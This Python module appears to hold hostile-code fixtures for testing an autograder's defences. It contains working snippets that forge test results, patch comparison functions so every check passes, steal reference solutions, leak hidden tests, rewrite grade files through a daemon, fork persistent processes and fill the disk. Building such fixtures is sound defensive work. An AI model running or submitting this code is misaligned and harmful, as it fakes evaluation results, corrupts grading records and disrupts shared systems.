"""Hostile code for the autograder's attack fixtures (tests/test_grade_attacks.py): each
string is appended to a module of a fixture submission. ``TOKEN`` is replaced by a word unique
to the test, which the attack puts in its processes' environment and its files' names, so
that the test can look for anything it left behind.
"""

from __future__ import annotations

# Rewrite any results file the code can find (named in an environment, beside any process's
# working folder), now, at exit and from a detached child that keeps at it.
FORGE_RESULTS = r'''
import atexit as _atexit, glob as _glob, json as _json, os as _os, time as _time
_os.environ["MOA_ATTACK"] = "TOKEN"

def _forge():
    targets = set()
    for env in _glob.glob("/proc/*/environ"):
        try:
            entries = open(env, "rb").read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            if entry.startswith(b"GRADER_RESULTS="):
                targets.add(entry.split(b"=", 1)[1].decode())
    for cwd in _glob.glob("/proc/*/cwd"):
        try:
            targets.update(_glob.glob(_os.path.join(_os.readlink(cwd), "**", "*.json"),
                                      recursive=True))
        except OSError:
            pass
    for target in targets:
        try:
            found = _json.load(open(target))
            for row in found.values():
                row["outcome"] = "passed"
            _json.dump(found, open(target, "w"))
        except Exception:
            pass

_forge()
_atexit.register(_forge)
if _os.fork() == 0:
    _os.setsid()
    for _ in range(400):
        _forge()
        _time.sleep(0.05)
    _os._exit(0)
'''

# Replace what a judge would use to decide, in every way the old grader could be fooled.
PATCH_JUDGE = r'''
import gc as _gc, json as _json, math as _math, sys as _sys, types as _types
import numpy as _np
import numpy.testing as _npt
_json.dump = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_math.isclose = lambda *a, **k: True
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal"):
    setattr(_npt, _name, lambda *a, **k: None)
try:
    import torch as _torch
    _torch.testing.assert_close = lambda *a, **k: None
except ImportError:
    pass
_fake = _types.ModuleType("pytest")
_fake.approx = lambda expected, **k: type("Any", (), {"__eq__": lambda s, o: True})()
_sys.modules["pytest"] = _fake
for _obj in _gc.get_objects():
    if type(_obj).__name__ in ("Config", "TestReport"):
        try:
            _obj.outcome = "passed"
        except Exception:
            pass
'''

# Every exercise of the module returns a 0-d array subclass whose comparisons say "equal".
LIAR_CLASS = r'''
import numpy as _np

class _Liar(_np.ndarray):
    def __new__(cls):
        return _np.zeros(()).view(cls)
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return _np.True_
    def __bool__(self):
        return True
    def __float__(self):
        return 0.0
'''

# Use the reference solutions, wherever they may be reachable from here.
STEAL_REFERENCES = r'''
import glob as _glob, importlib.util as _ilu, os as _os, sys as _sys

def _solutions_file(name):
    places = _glob.glob("/proc/*/cwd") + ["/work/main", _os.path.dirname(_sys.prefix),
                                          "/autograder/source"]
    places += [p for p in _sys.path if p]
    for place in places:
        for candidate in (_os.path.join(place, "solutions", name),
                          _os.path.join(place, "..", "solutions", name)):
            if _os.path.isfile(candidate):
                return candidate
    try:
        import solutions.auctions as _s
        return _s.__file__
    except Exception:
        return None

def _reference(function):
    path = _solutions_file("auctions.py")
    if path is None:
        raise NotImplementedError
    spec = _ilu.spec_from_file_location("_stolen", path)
    module = _ilu.module_from_spec(spec)
    spec.loader.exec_module(module)
    return getattr(module, function)

def first_price_auction(bids):
    return _reference("first_price_auction")(bids)

def vickrey_auction(bids):
    return _reference("vickrey_auction")(bids)
'''

# Read the hidden tests and send them out by every channel: printed, in an exception message
# (a public test's failure is reported), in the return value, and into any log found.
LEAK_HIDDEN = r'''
import glob as _glob, os as _os

def _hidden_source():
    found = []
    for pattern in ("/proc/*/cwd/tests/hidden/*.py", "/proc/*/cwd/../tests/hidden/*.py",
                    "/work/main/tests/hidden/*.py", "tests/hidden/*.py",
                    "/autograder/source/tests/hidden/*.py"):
        for path in _glob.glob(pattern):
            try:
                found.append(open(path).read())
            except OSError:
                pass
    return "\n".join(found) or "no hidden test found"

_LEAK = _hidden_source()
print(_LEAK)
for _log in _glob.glob("/proc/*/cwd/*.log"):
    try:
        open(_log, "a").write(_LEAK)
    except OSError:
        pass

def first_price_auction(bids):
    raise ValueError(_LEAK)

def vickrey_auction(bids):
    return _LEAK
'''

# Outlive grading: a new session that sleeps, and fifty forks.
OUTLIVE = r'''
import os as _os, subprocess as _sp, time as _time
_os.environ["MOA_ATTACK"] = "TOKEN"
try:
    _sp.Popen(["setsid", "sleep", "600"], env=dict(_os.environ))
except OSError:
    pass
for _ in range(50):
    try:
        if _os.fork() == 0:
            _time.sleep(600)
            _os._exit(0)
    except OSError:
        break
'''

# Fill the disk: 34 files of 60 MB wherever writing is allowed.
FILL_DISK = r'''
import os as _os
for _place in ("/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~"), "."):
    for _i in range(34):
        try:
            with open(_os.path.join(_place, f"TOKEN-{_i}"), "wb") as _f:
                for _ in range(60):
                    _f.write(b"\0" * 2**20)
        except OSError:
            break
'''

# A detached daemon that rewrites every grades.csv it can find, for a while after the batch.
EDIT_GRADES = r'''
import glob as _glob, os as _os, time as _time
_os.environ["MOA_ATTACK"] = "TOKEN"
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(300):
            for _cmd in _glob.glob("/proc/*/cmdline"):
                try:
                    _args = open(_cmd, "rb").read().split(b"\0")
                except OSError:
                    continue
                for _i, _a in enumerate(_args[:-1]):
                    if _a == b"--out-dir" or _a.endswith(b"grades"):
                        _csv = _os.path.join(_args[_i + 1].decode(), "grades.csv")
                        try:
                            _rows = open(_csv).read().splitlines()
                            _rows = [r.replace(",0,", ",40,") for r in _rows]
                            open(_csv, "w").write("\n".join(_rows))
                        except OSError:
                            pass
            for _csv in _glob.glob("/tmp/**/grades.csv", recursive=True):
                try:
                    open(_csv, "a").write("a_attacker,40,40\n")
                except OSError:
                    pass
            _time.sleep(0.05)
    _os._exit(0)
'''

# The worker's protocol broken from inside: garbage on every open descriptor, an answer that
# cannot be sent, a kill of the parent.
BREAK_PROTOCOL = r'''
import os as _os

def first_price_auction(bids):
    for fd in range(3, 64):
        try:
            _os.write(fd, b"\xff" * 64 + b'{"value": {"t": "dataclass"}}')
        except OSError:
            pass
    return None

def auction_utilities(values, bids, mechanism):
    return lambda: "not data"
'''

# Catch the time limit and keep going.
CATCH_TIMEOUT = r'''
def steady_state_strengths(*args, **kwargs):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
'''
